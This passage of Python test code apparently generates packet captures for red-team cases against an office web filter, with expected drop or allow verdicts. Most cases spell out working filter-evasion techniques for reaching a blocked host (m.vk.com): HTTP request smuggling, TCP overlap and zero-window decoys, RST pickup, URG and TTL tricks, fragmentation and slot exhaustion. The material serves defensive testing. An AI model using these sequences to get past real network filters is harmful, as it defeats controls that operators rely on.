        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, b"ok"))
        t.data(True, h2_frame(1, 5, 83, h2_idx_block(b"", leak(n), True)))
        t.data(False, h2_frame(1, 4, 83, b"\x88") + h2_frame(0, 1, 83, leak(n)))
    return h2c_long(n, 49225, last, leak(n)), {"leak": [leak(n)]}


@case
def case_h2pk_late_data_in_block_vk(n):
    """Office h2c: after h2c_long, a HEADERS frame without END_HEADERS for www.example.org,
    then a DATA frame before its CONTINUATION (a connection error at the server, RFC 9113
    6.10, which closes it), then more. Refused. Must drop (exception)."""
    def last(t):
        blk = h2_idx_block(b"www.example.org", b"z", True)
        t.data(True, h2_frame(1, 0, 81, blk[:3]) + h2_frame(0, 0, 81, leak(n)))
        t.data(True, h2_frame(9, 4, 81, blk[3:]))
    return h2c_long(n, 49226, last, leak(n)), {"leak": [leak(n)]}


def tfo_fallback(n, cport, req0):
    """TCP Fast Open falling back: a SYN with req0 and a Fast Open cookie (the office
    drops it with its data), the SYN again without data one RTO later (Linux keeps
    SYN and data apart for that, tcp_send_syn_data), a SYN-ACK of the SYN alone.
    Returns the capture and the ETcp, at the client's first byte."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7), (34, prand(n + "cookie", 8))]
    t.raw(True, "S", req0, options=opts)
    t.raw(True, "S", options=opts[:3], gap=1000000)
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    t.sseq += 1
    return cap, t


@case
def case_rtk_tfo_ok(n):
    """(Red team) Must-allow: TCP Fast Open (RFC 7413; Linux curl --tcp-fastopen holding
    the server's cookie): the first GET for www.example.org rides in the SYN. A zone that
    allows on exceptions drops such a SYN (its data would pass unread), and the client
    does what Linux does when a SYN with data is lost (tfo_fallback): the SYN again,
    without data, one RTO later; the server's SYN-ACK acknowledges the SYN alone; the GET
    follows the handshake, then four more. Must allow; the SYN with data is the one
    packet dropped."""
    req0 = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    cap, t = tfo_fallback(n, 49120, req0)
    t.data(True, req0)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 5):
        mark = passm(n) if i == 4 else b"x"
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: %s\r\n\r\n" % (i, mark))
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_tfo_fallback_vk(n):
    """TCP Fast Open falling back (tfo_fallback): the SYN carries a GET for
    www.example.org (dropped with its data), the SYN again without data, and after the
    handshake the client sends a GET for m.vk.com at the first byte instead (a server
    that did not take the SYN's data reads only this one). Must drop (social)."""
    cap, t = tfo_fallback(n, 49221, b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_host_dot_vk(n):
    """(Red team) After four answered requests, a fifth with "Host: m.vk.com." (nginx
    ngx_http_validate_host drops a trailing dot; DNS reads the FQDN the same). Must drop
    (social)."""
    cap, t = ka_flow(n, 49121)
    t.data(True, b"GET /feed HTTP/1.1\r\nHost: m.vk.com.\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_urg_first_vk(n):
    """(Red team) The client's first request (www.example.org) carries URG, its urgent
    byte an extra "X" in a header value: before the verdict URG is an "ambiguous"
    exception, which the office allows (judge_tcp_long), so the flow is decided inside
    judge_tcp_long and judge_http_more never sees a first payload: f->hw.on stays 0 and
    the next request, for m.vk.com, is never read. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49122, SOC, 80, isn=49122 * 7, rtt_us=20000)
    t.handshake()
    pre = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nX-A: b"
    pl = pre + b"X" + b"\r\n\r\n"
    t.raw(True, "PAU", pl, tcpkw={"urgptr": len(pre) + 1})
    t.cseq += len(pl)
    t.raw(False, "A")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 25):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_ttl_first_vk(n):
    """(Red team) The client's first request sent first with TTL 1 (it expires before the
    server), then with a right TTL; the next request is for m.vk.com. If the short TTL is
    an exception the office allows before judge_http_more saw a payload, f->hw.on stays
    0. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49123, SOC, 80, isn=49123 * 7, rtt_us=20000)
    t.handshake()
    req = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    t.raw(True, "PA", req, ipkw={"ttl": 1})
    t.raw(True, "PA", req)
    t.cseq += len(req)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 25):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_upload_reorder_ok(n):
    """(Red team) Must-allow: after four answered requests, a POST whose 5600-byte body
    (Content-Length) comes in four segments, the second delayed behind the third and
    fourth (reordering on the path), then the third and fourth again, then a last GET.
    Segments wholly inside a declared body are dropped past the gap although no byte of
    a body is read."""
    cap, t = ka_flow(n, 49124)
    body = prand(n + "up", 5600)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n"
           b"Content-Type: application/octet-stream\r\n\r\n" % len(body))
    cut_at(t, body, [1400, 2800, 4200], order=[0, 2, 3, 1, 2, 3])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.data(True, b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk_rst_pickup_vk(n):
    """(Red team) After four answered requests the client sends a RST whose sequence
    number is far outside the server's window (RFC 5961 3.2 / RFC 9293: dropped, the
    connection goes on; Linux tcp_validate_incoming), waits 11 s (under nginx's 75 s
    keepalive_timeout), and sends a GET for m.vk.com on the same connection. An unchecked
    flow takes any RST as closing (judge.c: "!checked || judge_rst_exact"), ends after
    tcp_closed (10 s), and the next segment is a midstream pickup. Must drop (social)."""
    cap, t = ka_flow(n, 49125)
    t.raw(True, "R", seq=(t.cseq + 0x40000000) & 0xffffffff)
    cap.idle(11)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_rst_pickup_crlf_vk(n):
    """(Red team) rtk_rst_pickup_vk, the pickup's first payload a bare CRLF, then 24
    GETs for www.example.org, then one for m.vk.com. Must drop (social)."""
    cap, t = ka_flow(n, 49126)
    t.raw(True, "R", seq=(t.cseq + 0x40000000) & 0xffffffff)
    cap.idle(11)
    t.data(True, b"\r\n")
    for i in range(5, 29):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_noack_fin_pickup_vk(n):
    """(Red team) As rtk_rst_pickup_vk with a FIN without ACK from the client (dropped
    by the server: no ACK bit) and the server's FIN-less silence; then idle 11 s and a
    GET for m.vk.com. Must drop (social)."""
    cap, t = ka_flow(n, 49127)
    t.raw(True, "F", seq=t.cseq)
    t.raw(False, "FA")
    t.sseq += 1
    cap.idle(11)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_longline_vk(n):
    """(Red team) After four answered requests, a request line of 17000 bytes (the target)
    then Host: m.vk.com, in 1400-byte segments: past 16 KiB no Host is in the kept head.
    Must drop (refused)."""
    cap, t = ka_flow(n, 49128)
    head = b"GET /" + b"a" * 17000 + b" HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    cut_at(t, head, list(range(1400, len(head), 1400)))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_te_list_vk(n):
    """(Red team, second round) After four answered requests, a chunked POST whose head
    says "Transfer-Encoding: gzip, chunked" (Apache ap_is_chunked and llhttp take a list
    whose last coding is chunked as chunked framing), the head alone in its segment; the
    next segment holds the body "5\\r\\nhello\\r\\n0\\r\\n\\r\\n" and a GET for m.vk.com.
    The framing is malformed to hs_body_end (an exception the office allows): the rest of
    the head's segment is searched for request lines, but the next segment is read from
    its first byte ("5\\r\\n..." starts no request, k == 0) and nothing of it is read.
    Must drop (social)."""
    cap, t = ka_flow(n, 49200)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: gzip, chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n")
    t.data(True, b"5\r\nhello\r\n0\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_bighead_cl_vk(n):
    """(Red team, second round) After four answered requests, a 20000-byte POST head (Host:
    www.example.org first, "Content-Length: 5" second, then cookie lines under 8 KB: nginx
    takes it in its 4 x 8k large_client_header_buffers, Apache in 100 fields of 8190) in
    1400-byte segments, then the body "12345" and a GET for m.vk.com. Past 16 KiB the head
    is passed over to its empty line and what follows is read as requests, its framing
    unread: "12345GET ..." starts no request (k == 0), so nothing is read. nginx and
    Apache read the 5-byte body and serve the GET. Must drop (social)."""
    cap, t = ka_flow(n, 49201)
    cl = b"Content-Length: 5\r\n"
    head = _big_head(20000 - len(cl)).replace(b"Host: www.example.org\r\n",
                                              b"Host: www.example.org\r\n" + cl, 1)
    assert len(head) == 20000
    cut_at(t, head + b"12345" + _rtk_vk_req(n), list(range(1400, len(head), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_cl_gap_overlap_vk(n):
    """(Red team, second round) After four answered requests, a POST with a 3000-byte body
    (Content-Length). Body bytes 0..1400 come in order; bytes 1400..2800 are held back;
    then a segment at body offset 2800 holding the body's last 200 bytes and a decoy GET
    for www.example.org. A gap inside a Content-Length body is passed over
    (judge_http_more: off > 0, seq <= body_to), so the segment is taken and the decoy
    read. Then one segment from body offset 1400 to the same end, its tail a GET for
    m.vk.com of the decoy's length. The server queued the decoy's segment out of order;
    the in-order segment fills the hole and runs over it, and Linux keeps the new bytes
    (tcp_data_queue, then tcp_ofo_queue drops the queued copy it covers; FreeBSD
    tcp_reass trims the queued one the same way): the server reads the GET for m.vk.com.
    Ours ends where we read up to, so it passes as old bytes, unread. Must drop (social)."""
    cap, t = ka_flow(n, 49202)
    body = prand(n + "up", 3000)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n"
           b"Content-Type: application/octet-stream\r\n\r\n" % len(body))
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    t.raw(True, "PA", body[:1400], seq=base)
    t.raw(True, "PA", body[2800:] + decoy, seq=base + 2800)
    t.raw(True, "PA", body[1400:] + real, seq=base + 1400)
    t.cseq = base + len(body) + len(real)
    t.raw(False, "A")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_first_longmethod_vk(n):
    """(Red team, second round) The client's first request has a method of 16 letters,
    "BASELINE-CONTROL" (a method Apache registers, M_BASELINE_CONTROL: its default
    handler answers 405 and keeps the connection; nginx takes any A-Z/-/_ method of any
    length, answers 405 and keeps it), then four GETs for www.example.org, then one for
    m.vk.com. hs_method takes at most 15 letters, so hs_http_starts is false on the
    first payload and the watch is never on. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49203, SOC, 80, isn=49203 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"BASELINE-CONTROL /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nAllow: GET, HEAD\r\nContent-Length: 0\r\n\r\n")
    for i in range(1, 5):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_first_h20_vk(n):
    """(Red team, second round) The client's first request line ends "HTTP/2.0" (llhttp,
    Node's parser, takes versions 0.9, 1.0, 1.1 and 2.0 on an HTTP/1 connection; with
    "Connection: keep-alive" Node keeps it), then 24 GETs for www.example.org (the
    classifier gives up), then one for m.vk.com. hs_http_versioned wants HTTP/1.x: the watch is turned off. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49204, SOC, 80, isn=49204 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /0 HTTP/2.0\r\nHost: www.example.org\r\nConnection: keep-alive\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nConnection: keep-alive\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 25):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_cl_huge_text_ok(n):
    """(Red team, second round) Must-allow: after four answered requests, an honest PUT of
    a 1.5 GiB log file (Content-Length: 1610612736; curl -T, a backup agent). Its body_to
    is capped at 2^30 bytes past the head (judge_http_piece: rem < 1 << 30), so from body
    offset 2^30 on the judge reads the file's text as requests: a segment that starts
    "azy dog\n..." is a request line to hs_method, its head has no empty line, it is
    kept and joined to 16 KiB, has no Host, and the flow is refused (JUDGE_HTTP_LONG,
    whatever the zone does). The capture passes over most of the body (a gap inside a
    Content-Length body is passed over: no byte of it is read); the bytes around offset
    2^30 are those an honest client sends."""
    cap, t = ka_flow(n, 49205)
    size = 1610612736
    t.data(True, b"PUT /backup/app.log HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n"
           b"Content-Length: %d\r\nContent-Type: text/plain\r\n\r\n" % size)
    base = t.cseq
    line = b"the quick brown fox jumps over the lazy dog\n"
    t.raw(True, "PA", (line * 40)[:1400], seq=base)
    x0 = (1 << 30) - 700  # body offset of the text below
    text = line * 600
    for i in range(15):
        seg = text[i * 1400:(i + 1) * 1400]
        if i == 14:
            seg = passm(n) + seg[len(passm(n)):]
        t.raw(True, "PA", seg, seq=(base + x0 + i * 1400) & 0xffffffff, gap=2000)
    t.raw(False, "A")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk2_zero_window_vk(n):
    """(Red team, second round) After four answered requests, the server's window closes
    (its application stopped reading: a slow handler that leaves the socket unread fills
    the buffer). A decoy GET for www.example.org is sent into the zero window: Linux
    drops it (tcp_data_queue: TCPZeroWindowDrop) and the client sends again once the
    window opens, another GET at the same place, for m.vk.com. judge_http_more tracked no
    window on an office flow: it read the decoy and passed the real copy as old bytes.
    Now a segment with new bytes into the closed window is dropped (judge_http_window).
    Must drop (social)."""
    cap, t = ka_flow(n, 49206)
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    t.raw(False, "A", window=0)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base)
    t.raw(False, "A", window=0)
    t.raw(False, "A", window=64240)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_zwin_probe_ok(n):
    """Must-allow twin of rtk2_zero_window_vk: after four answered requests the server's
    window closes; the client probes it with the first byte of its next request (as
    Windows does: a one-byte probe of new data), the server answers with the window
    still closed, then opens it, and the client sends the whole request (www.example.org),
    which is answered. The probe is dropped (the server drops it too); the request
    passes."""
    cap, t = ka_flow(n, 49222)
    req = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    t.raw(False, "A", window=0)
    base = t.cseq
    t.raw(True, "PA", req[:1], seq=base, gap=200000)
    t.raw(False, "A", window=0)
    t.raw(False, "A", window=64240, gap=300000)
    t.raw(True, "PA", req, seq=base)
    t.cseq = base + len(req)
    t.raw(False, "A")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk2_bighead_lf_edge_vk(n):
    """(Red team, second round) After four answered requests, a 16386-byte GET head (Host:
    www.example.org first, cookie lines under 8 KB) whose first 16384 bytes end with a
    header line's CRLF, so that its empty line is bytes 16384-16385; then a pipelined GET
    for m.vk.com in the same segment. The kept head is full without its empty line, and
    the rest is passed over from HS_CH_TLINE (inside a line): the empty line's CR and LF
    end that "line", and the GET for m.vk.com is read as trailer lines to its own empty
    line. nginx (4 x 8k) and Apache read the head and serve the GET. Must drop
    (social)."""
    cap, t = ka_flow(n, 49207)
    head = _big_head(16386)
    assert head[16382:16384] == b"\r\n" and head[16384:] == b"\r\n"
    cut_at(t, head + _rtk_vk_req(n), list(range(1400, len(head), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_bighead_cr_edge_vk(n):
    """(Red team, second round) As rtk2_bighead_lf_edge_vk with a 16385-byte head: the
    kept 16 KiB end with the empty line's CR, its LF is the first byte passed over.
    Must drop (social)."""
    cap, t = ka_flow(n, 49208)
    head = _big_head(16385)
    assert head[16383:16384] == b"\r" and head[16384:] == b"\n"
    cut_at(t, head + _rtk_vk_req(n), list(range(1400, len(head), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _abc_lines(k):
    # lines that hs_http_request_check reads as request lines ("abc d")
    return b"abc d\n" * k


@case
def case_rtk2_pipe16_body_lines_vk(n):
    """(Red team, second round) After four answered requests, one segment of valid,
    ordinary HTTP/1.1: 16 pipelined GETs for www.example.org, a POST whose 397-byte
    text body (Content-Length) holds 66 lines "abc d" and an empty one, then a GET for m.vk.com. Past 16
    heads hs_http_requests reads the rest line by line (hs_http_lines), which counts the
    body's lines as request lines and stops after 64: the GET is never visited. nginx,
    Apache and Node frame the body and serve the GET. Must drop (social)."""
    cap, t = ka_flow(n, 49209)
    ok = b"".join(b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i for i in range(16))
    body = _abc_lines(66) + b"\n"  # an empty line ends the last visited line's head
    post = (b"POST /n HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n\r\n" % len(body)) + body
    pl = ok + post + _rtk_vk_req(n)
    assert len(pl) <= 1460, len(pl)
    t.data(True, pl)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_te_list_lines_vk(n):
    """(Red team, second round) rtk2_te_list_vk in one segment: the "gzip, chunked" head,
    one chunk of 66 lines "abc d", the last chunk, then a GET for m.vk.com. The framing is
    malformed to us and the rest of the payload is read line by line, at most 64 request
    lines: the GET is past them. Apache and Node read the chunked body and serve the GET.
    Must drop (social)."""
    cap, t = ka_flow(n, 49210)
    chunk = _abc_lines(66)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
           + b"%x\r\n" % len(chunk) + chunk + b"\r\n0\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_frag_pipe81_vk(n):
    """(Red team, second round) After four answered requests, one TCP segment of 3.5 KB
    (larger than the MSS: a receiver takes it, Linux does not hold a peer to its MSS)
    in three IPv4 fragments: 81 pipelined GETs for www.example.org, then one for
    m.vk.com. 16 heads are framed, then hs_http_lines visits at most 64 more: the 82nd
    is never read. Must drop (social)."""
    cap, t = ka_flow(n, 49211)
    ok = b"".join(b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\n" for i in range(81))
    pl = ok + _rtk_vk_req(n)
    t.raw(True, "PA", pl, frag=[1480, 2960])
    t.cseq += len(pl)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_first_rtsp_vk(n):
    """(Red team, second round) The client's first request line is "GET /0 RTSP/1.0" with
    "Connection: keep-alive": llhttp (Node's HTTP server) takes RTSP/x.y after GET and
    POST (AirPlay) and serves it as an HTTP/1.0 keep-alive request. hs_http_versioned
    wants HTTP/1.x: the watch is off. Then 24 GETs for www.example.org (the classifier
    gives up) and one for m.vk.com. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49212, SOC, 80, isn=49212 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /0 RTSP/1.0\r\nHost: www.example.org\r\nConnection: keep-alive\r\n\r\n")
    t.data(False, b"HTTP/1.0 200 OK\r\nConnection: keep-alive\r\nContent-Length: 2\r\n\r\nok")
    for i in range(1, 25):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_full_body_vk(n):
    """(Red team, second round) After four answered requests the same inside host opens 16
    more connections, each leaving a request head unfinished ("...X-A: "): its 16 carry
    slots (WORKER_CARRY_PER_SRC) are taken. Then a POST with a 10-byte body
    (Content-Length), the head alone; then a segment with the body and a cut GET head.
    Its cut head finds no slot (JUDGE_HTTP_FULL): the segment is dropped and hw.next set
    back, but judge_http_piece has already cleared FLOW_HW_BODY. The client sends the
    segment again, other bytes after the body: a GET for m.vk.com. Read from its first
    byte as a new request stream ("0123456789GET ..." starts no request, k == 0),
    nothing of it is read; the server reads the body, then the GET. Must drop
    (social)."""
    cap, t = ka_flow(n, 49213)
    others = []
    for i in range(16):
        a = ETcp(cap, O1, 21000 + i, SOC, 80, isn=5000 + i * 977, rtt_us=200)
        a.handshake()
        a.send(True, b"GET /o%d HTTP/1.1\r\nHost: www.example.org\r\nX-A: " % i)
        others.append(a)
    body = b"0123456789"
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n"
           b"Content-Type: text/plain\r\n\r\n" % len(body))
    base = t.cseq
    t.raw(True, "PA", body + b"GET /x HTTP/1.1\r\nHost: www.example.org\r\n", seq=base)
    real = body + _rtk_vk_req(n)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    t.raw(False, "A")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_pipe17_cut_vk(n):
    """(Red team, second round) After four answered requests, one segment holding 16
    pipelined GETs for www.example.org and the start of a 17th, for m.vk.com, cut inside
    its Host line ("...\\r\\nHo"); the next segment holds the rest ("st: m.vk.com ...").
    Past 16 heads hs_http_requests reads line by line (hs_http_lines), which keeps no cut
    head: the 17th is visited without its Host, and the next segment, read from its
    first byte, starts no request. nginx, Apache and Node join the head and serve it.
    Must drop (social)."""
    cap, t = ka_flow(n, 49214)
    ok = b"".join(b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i for i in range(16))
    vk = _rtk_vk_req(n)
    k = len(b"GET /feed HTTP/1.1\r\nHo")
    t.data(True, ok + vk[:k])
    t.data(True, vk[k:])
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_longmethod_pipe_vk(n):
    """(Red team, second round) After four answered requests, one segment: a request with
    the 16-letter method BASELINE-CONTROL for www.example.org (Apache: a registered
    method, 405 and the connection kept; nginx: any A-Z method, 405, kept), then a GET
    for m.vk.com. hs_method takes at most 15 letters: the payload's first bytes start no
    request, and with k == 0 hs_http_requests reads nothing more of it. Must drop
    (social)."""
    cap, t = ka_flow(n, 49215)
    t.data(True, b"BASELINE-CONTROL /5 HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nAllow: GET, HEAD\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_pmtu_decoy_vk(n):
    """(Red team, second round) After four answered requests, a decoy request for
    www.example.org in one full-size segment with DF set (1500-byte IP packet); the
    office's uplink behind the appliance has a smaller MTU (PPPoE: 1492), so its router
    drops it and answers ICMP "fragmentation needed, MTU 1492" to the client. The client
    sends other bytes at the same place, in smaller segments: a GET for m.vk.com (padded
    to the decoy's length). judge_http_more read the decoy (it reaches no server) and
    passes the real copy as old bytes. Must drop (social)."""
    cap, t = ka_flow(n, 49216)
    real = _rtk_vk_req(n)
    real = real[:-2] + b"X-Pad: " + b"q" * (1460 - len(real) - 9) + b"\r\n\r\n"
    decoy = b"GET /feed HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    decoy = decoy[:-2] + b"X-Pad: " + b"p" * (1460 - len(decoy) - 9) + b"\r\n\r\n"
    assert len(real) == len(decoy) == 1460
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    quoted = bytes(IP(src=O1, dst=SOC, flags="DF", len=1500) / TCP(sport=49216, dport=80, seq=base,
                                                                  ack=t.sseq, flags="PA"))[:28]
    rtr = "10.20.0.1"
    cap.emit(l2(rtr, O1) / IP(src=rtr, dst=O1) / ICMP(type=3, code=4, nexthopmtu=1492) / Raw(quoted),
             2000)
    t.raw(True, "PA", real[:1452], seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", real[1452:], seq=base + 1452, ipkw={"flags": "DF"})
    t.cseq = base + len(real)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk2_carry_src_stale_ok(n):
    """(Red team, second round) Must-allow (stall): an inside address shared by several
    users (NAT, a terminal server) has 16 connections whose request heads stopped half
    way (a client killed, a peer gone): their flows live on (tcp timeout 3600 s) and each
    keeps its carry slot. Five seconds later another user behind the same address sends a
    request whose 3 KB head comes in two segments. judge_carry_take returns NULL as soon
    as the address holds WORKER_CARRY_PER_SRC slots, before the 4 s stale rule that takes
    back old slots: the head's first segment is dropped (http_carry_full) at every
    retransmission, for as long as those flows live."""
    cap = Capture()
    for i in range(16):
        a = ETcp(cap, O1, 22000 + i, SOC, 80, isn=7000 + i * 977, rtt_us=200)
        a.handshake()
        a.send(True, b"GET /s%d HTTP/1.1\r\nHost: www.example.org\r\nX-A: " % i)
    cap.idle(5)
    t = ETcp(cap, O1, 49217, SOC, 80, isn=49217 * 7, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    cookie = b"Cookie: " + b"; ".join(b"c%d=%s" % (i, prand("%s-c%d" % (n, i), 40).hex().encode())
                                      for i in range(30)) + b"\r\n"
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\n" + cookie + b"X-Mark: " + passm(n) + b"\r\n\r\n"
    base = t.cseq
    # first send, then retransmissions with RTO backoff (1 s, 2 s, 4 s)
    for gap in (1000, 1000000, 2000000, 4000000):
        t.raw(True, "PA", head[:1400], seq=base, gap=gap)
        t.raw(True, "PA", head[1400:], seq=base + 1400, gap=100)
    t.cseq = base + len(head)
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk2_tfo_vk(n):
    """(Red team, second round) TCP Fast Open (RFC 7413; nginx "listen 80 fastopen=256",
    a client holding the server's cookie from an earlier connection): the GET for
    m.vk.com rides in the SYN, the SYN-ACK acknowledges it, the server answers. Data on a
